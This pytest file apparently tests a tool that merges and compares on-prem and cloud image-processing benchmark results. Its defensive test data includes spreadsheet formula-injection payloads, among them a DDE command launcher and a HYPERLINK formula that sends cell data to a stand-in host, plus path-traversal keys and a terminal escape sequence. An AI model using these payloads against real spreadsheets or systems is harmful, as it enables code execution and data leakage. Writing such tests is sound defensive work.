# --- copies, in all that a reader gets ------------------------------------------------------------


def test_copies_are_told_in_terminal_report_and_summary_and_planned_for(compare_files, tmp_path):
    flags = ("--no-download", "--manifest", manifest_file(tmp_path, sha256="one"), "--plan", "5%")
    code, out, _ = compare_files(on_prem_rows(), cloud_rows(), *flags)
    assert code == 0
    warning = "only 1 different picture among 3"
    assert f"warning: {warning}; copies of a picture count as one\n" in out
    assert "by the spread of this one (1 different picture (3 with copies) x 1 round)" in out
    assert re.search(r"^  4 different pictures: ", out, re.MULTILINE)
    summary = json.loads((compare_files.output / "summary.json").read_bytes())
    assert summary["pictures"] == {"files": 3, "different": 1}
    assert (summary["per_picture"]["pictures"], summary["per_picture"]["files"]) == (1, 3)
    assert warning in (compare_files.output / "report.html").read_text()


# --- nothing is lost at the end of a long run -----------------------------------------------------


def test_files_that_could_not_be_read_or_written_are_refused_before_anything_starts(
    checkout, run_script_in, tmp_path
):
    (checkout / "images_to_upload" / "a.jpg").write_bytes(b"no picture")
    for flags in (("--baseline", str(tmp_path / "none.zip")), ("--bundle", str(tmp_path))):
        done = run_script_in("master_pipeline.py", *flags)
        assert error_line(done).startswith("error: ")
        assert not (checkout / "metrics" / "run.json").exists()


def test_a_download_without_a_row_of_the_run_leaves_the_rows_that_are_here(
    compare_files, named_buckets
):
    s3, bucket, flags = named_buckets
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(cloud_rows("old")))
    code, _, err = compare_files(on_prem_rows(), cloud_rows("before"), *flags)
    assert code == 1
    assert "holds no row of run 'run'" in err
    assert compare_files.cloud_csv.read_bytes() == csv_of(cloud_rows("before"))


def test_outputs_that_cannot_be_fetched_for_show_do_not_cost_the_answer(
    compare_files, named_buckets, monkeypatch
):
    s3, bucket, flags = named_buckets
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(cloud_rows()))

    def refuse(*_: object) -> None:
        raise s3.exceptions.ClientError({"Error": {"Code": "AccessDenied"}}, "GetObject")

    monkeypatch.setattr(compare_script, "partial", lambda *_: refuse)
    code, out, err = compare_files(on_prem_rows(), None, *flags)
    assert code == 0
    assert "on-prem is 2.00x faster" in out
    assert "the report goes without pictures of the cloud's outputs: GetObject: AccessDenied" in err


def test_a_manifest_of_another_run_is_refused(compare_files, tmp_path):
    flags = ("--no-download", "--manifest", manifest_file(tmp_path), "--run-id", "other")
    code, _, err = compare_files(on_prem_rows("other"), cloud_rows("other"), *flags)
    assert code == 1
    assert err == "error: the manifest is of run 'run', and not of run 'other'\n"


RECORDS = {
    "no JSON": b"{",
    "a list": b"[1]",
    "steps that are none": {"steps": None},
    "a step that is none": {"steps": [1]},
    "a step without a name": {"steps": [{"status": "done"}]},
    "counters that are none": {"steps": [{"step": "a", "machine": {"steal_share": "x"}}]},
    "an environment that is none": {"environment": []},
    "packages that are none": {"environment": {"packages": []}},
    "a memory that is none": {"environment": {"memory_mb": "x"}},
    "a data set that is none": {"data_set": "x"},
    "files left out that are none": {"data_set": {"left_out": 1}},
    "left out nobody knows how often": {"data_set": {"left_out": {"._*": None}}},
    "a number too large": {"data_set": {"bytes": 10**400}},
    "nested deeply": b'{"run_id": "run", "x": ' + b"[" * 100_000,
}


@pytest.mark.parametrize("record", RECORDS.values(), ids=RECORDS)
def test_an_odd_run_json_costs_neither_verdict_nor_report(compare_files, tmp_path, record):
    if isinstance(record, dict):
        record = json.dumps({"run_id": "run"} | record).encode()
    (tmp_path / "RUN_JSON").write_bytes(record)
    code, out, err = compare_files(on_prem_rows(), cloud_rows(), "--no-download")
    assert (code, err) == (0, "")
    assert "on-prem is 2.00x faster" in out


def test_keys_with_any_line_end_are_one_record_each_in_the_merged_csv(compare_files):
    keys = ["a\rb", "c\nd", "e\r\nf", 'g"h,i']
    on_prem = [row(key, source="on_prem", environment="local") for key in keys]
    assert compare_files(on_prem, [row(key) for key in keys], "--no-download")[0] == 0
    with (compare_files.output / "merged_metrics.csv").open(
        newline="", encoding="utf-8-sig"
    ) as file:
        header, *records = csv.reader(file)
    assert sorted(record[header.index("image_key")] for record in records) == sorted(keys)


def test_the_merged_csv_begins_with_one_byte_order_mark_and_the_raw_ones_with_none(
    compare_files,
):
    keys = [f"é {n}.jpg" for n in range(30)]
    on_prem = [row(key, source="on_prem", environment="local") for key in keys]
    assert compare_files(on_prem, [row(key) for key in keys], "--no-download")[0] == 0
    content = (compare_files.output / "merged_metrics.csv").read_bytes()
    mark = "\ufeff".encode()
    assert content.startswith(mark + b"timestamp_on_prem,image_key,")
    assert content.count(mark) == 1
    read = pd.read_csv(compare_files.output / "merged_metrics.csv")
    assert sorted(read["image_key"]) == sorted(keys)
    assert not compare_files.cloud_csv.read_bytes().startswith(mark)


FORMULAS = [
    *("=cmd|' /C calc'!A0", "+1+1", "-2+3.jpg", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1"),
    *('=HYPERLINK("http://x.example?"&A1)', "＝1", "'=1+1", "'", "''a", "a=1+1", " =1"),  # noqa: RUF001
]


def spreadsheet_runs(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))  # noqa: RUF001


def test_no_cell_of_the_merged_csv_is_a_formula_and_one_apostrophe_off_gives_the_text_back(
    compare_files,
):
    on_prem = [row(key, source="on_prem", environment="local", worker=key) for key in FORMULAS]
    cloud = [row(key, status="error", error=f"={key}", transform="@x") for key in FORMULAS]
    compare_files(on_prem, [*cloud, row("=only here")], "--no-download")
    with (compare_files.output / "merged_metrics.csv").open(
        newline="", encoding="utf-8-sig"
    ) as file:
        records = list(csv.DictReader(file))
    assert [cell for record in records for cell in record.values() if spreadsheet_runs(cell)] == []
    texts = ("image_key", "worker_on_prem", "error_cloud")
    found = {tuple(record[name].removeprefix("'") for name in texts) for record in records}
    expected = {(key, key, f"={key}") for key in FORMULAS}
    assert found == expected | {("=only here", "", "")}
    assert {record["transform_cloud"] for record in records} == {"'@x", "v1"}
    assert {float(record["proc_ms_cloud"]) for record in records} == {12.5}  # numbers stay numbers


@pytest.mark.parametrize(
    "flags",
    [["--self-check"], ["--run-id", "x"], ["--timeout", "1"], ["--allow-partial"]],
    ids=" ".join,
)
def test_flags_that_a_bundle_would_overrule_are_refused(bundle, flags):
    with pytest.raises(SystemExit) as caught:
        compare_script.main(["--from-bundle", str(bundle), *flags])
    assert caught.value.code == 2


def test_what_cannot_be_shown_in_a_terminal_is_written_as_its_escape(compare_files):
    cloud = [dataclasses.replace(r, environment="\x1b[31maws") for r in cloud_rows()]
    _, out, _ = compare_files(on_prem_rows(), cloud, "--no-download")
    assert "\x1b" not in out


OUTSIDE_KEYS = [
    "../../../x.jpg",
    "/x.jpg",
    "//x",
    ".",
    "..",
    "",
    "a/../../x",
    "./x",
    "\\..\\x",
    "a//b",
]


def test_rows_whose_keys_lead_anywhere_are_compared_and_nothing_is_written_there(
    compare_files, named_buckets, tmp_path, monkeypatch, capsys
):
    """A bucket, and a bundle, may hold any key: each is a name in a table and nothing else."""
    s3, bucket, flags = named_buckets
    monkeypatch.setattr(output_equivalence, "OUTPUT_LOCAL", tmp_path / "output_local")
    for module in (paths, output_equivalence):
        monkeypatch.setattr(module, "CLOUD_OUTPUTS", tmp_path / "cloud_outputs")
    jpeg = encoded(photo(1), format="JPEG")
    keys = [*OUTSIDE_KEYS, str(tmp_path / "x.jpg")]
    for key in keys:
        s3.put_object(Bucket=bucket, Key=f"processed/{output_name(key)}", Body=jpeg)
    facts = {"proc_ms": 5.0, "cpu_ms": 5.0}
    on_prem = [row(key, source="on_prem", environment="local", **facts) for key in keys]
    cloud = [row(key, output_sha256=hashlib.sha256(jpeg).hexdigest(), **facts) for key in keys]
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(cloud))
    bundle, again = tmp_path / "run.zip", tmp_path / "again"
    code, out, err = compare_files(on_prem, None, *flags, "--bundle", str(bundle))
    assert (code, err) == (1, "")  # the outputs differ, by hash
    assert f"the output differs for {len(keys)} pictures" in out
    assert compare_script.main(["--from-bundle", str(bundle), "--output", str(again)]) == 1
    with (again / "merged_metrics.csv").open(newline="", encoding="utf-8-sig") as file:
        assert {record["image_key"] for record in csv.DictReader(file)} == set(keys)
    made = {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*") if path.is_file()}
    assert made == {"on_prem.csv", "cloud.csv", "run.zip", "results", "again", "cloud_outputs"}
    downloads = {path.name for path in (tmp_path / "cloud_outputs").iterdir()}
    assert downloads == {f"{hashlib.sha256(key.encode()).hexdigest()}.jpg" for key in keys}
